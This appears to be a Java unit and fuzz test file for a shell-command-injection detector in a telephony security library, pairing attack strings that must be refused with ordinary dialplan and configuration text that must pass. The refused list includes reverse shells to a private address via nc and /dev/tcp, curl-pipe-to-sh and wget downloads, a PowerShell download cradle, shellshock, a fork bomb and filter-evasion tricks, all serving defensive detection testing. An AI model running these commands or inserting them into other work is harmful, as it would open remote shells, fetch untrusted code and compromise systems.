package org.pbxguard.core.text.shell;

import static org.assertj.core.api.Assertions.assertThat;

import com.code_intelligence.jazzer.api.FuzzedDataProvider;
import com.code_intelligence.jazzer.junit.FuzzTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.pbxguard.core.text.Place;
import org.pbxguard.core.text.Probe;
import org.pbxguard.core.text.Where;

class ShellDetectorTest {
  private final Probe probe =
      Probe.of(new ShellDetector(), new WindowsDetector(), new ReverseShellDetector());

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        ";id",
        "; id",
        ";id;",
        "|id",
        "||id",
        "&id",
        "`id`",
        "$(id)",
        "7;cat /x",
        "7|cat /x",
        "7&&whoami",
        "x\nwhoami",
        "; sleep 7",
        "| sleep 7",
        "& ping -c 3 h.example",
        "|/usr/bin/id",
        "/bin/ls -al",
        "wget http://h.example/x",
        "curl -s h.example|sh",
        ";nc -e /bin/sh 10.0.0.9 7",
        "bash -i >& /dev/tcp/10.0.0.9/7 0>&1",
        "<(cat /x)",
        "{cat,/x}",
        "; c'a't /x",
        ";c\\at /x",
        ";cat$IFS/x",
        ";cat${IFS}$9/x",
        ";/b?n/c?t /x",
        ";/???/??t /x",
        "; /etc/pa??wd",
        ";ca$@t /x",
        "& dir c:\\",
        "| type c:\\x",
        "cmd /c dir",
        "powershell -enc abc",
        "() { :;}; echo x",
        "IEX(New-Object Net.WebClient)",
        "if exist x (echo y)",
        "for %i in (x) do echo %i",
        ":(){ :|:& };:",
        "which perl",
        "time curl h.example",
        "%3Bid",
        "&#59;id",
        "';id;'",
        "\"|whoami"
      })
  void inspect_attack_refused(String attack) {
    assertThat(probe.points(attack)).isGreaterThanOrEqualTo(Probe.REFUSED);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "${EXTEN}",
        "${CALLERID(num)}",
        "$[${x} + 1]",
        "${IF($[\"${x}\" = \"1\"]?a:b)}",
        "exten => 100,1,Dial(SIP/100,20)",
        "allow=ulaw ; the codec",
        "setting = yes ; set this to no",
        "; sort order of the list",
        "; time in seconds",
        "hello; time he came",
        "a heroine; more than that",
        "Tom & cat",
        "Id; Cat & Sons",
        "cats & dogs",
        "R&D",
        "AT&T",
        "yes|no|id",
        "date|time|host",
        "(a|b|sort)",
        "use `make` or `find` as you like, both work well here",
        "ls 300 lexus",
        "curl and divergence",
        "cat pictures",
        "find me",
        "make sure; then go",
        "echo test",
        "nc 8000 controller",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko",
        "a=1&id=2",
        "ping",
        "wake up; get it",
        "${caller_id_number}",
        "^(\\d+)$",
        "$1",
        "sip:100@h.example;transport=udp",
        "text/html; charset=utf-8",
        "10.0.0.0/8; 192.168.0.0/16",
        "exit; no way",
        "user_exists id ${destination_number} ${domain_name}",
        "effective_caller_id_name=${outbound_caller_name}"
      })
  void inspect_ordinaryText_letThrough(String text) {
    assertThat(probe.points(text)).as(probe.rules(text).toString()).isLessThan(Probe.REFUSED);
  }

  @Test
  void inspect_userAgentHeader_semicolonsAreItsOwn() {
    assertThat(probe.points("Mozilla/5.0 (X11; U; en-us; id; Linux)", Where.header("User-Agent")))
        .isLessThan(Probe.REFUSED);
    assertThat(probe.rules("() { :;}; echo x")).contains("shellshock");
    assertThat(probe.points(";id", Where.of(Place.FILE))).isZero();
  }

  @FuzzTest(maxDuration = "1m")
  void inspect_anyText_neverFails(FuzzedDataProvider data) {
    assertThat(probe.rules(data.consumeRemainingAsString())).doesNotContain("text-detector-fault");
  }
}
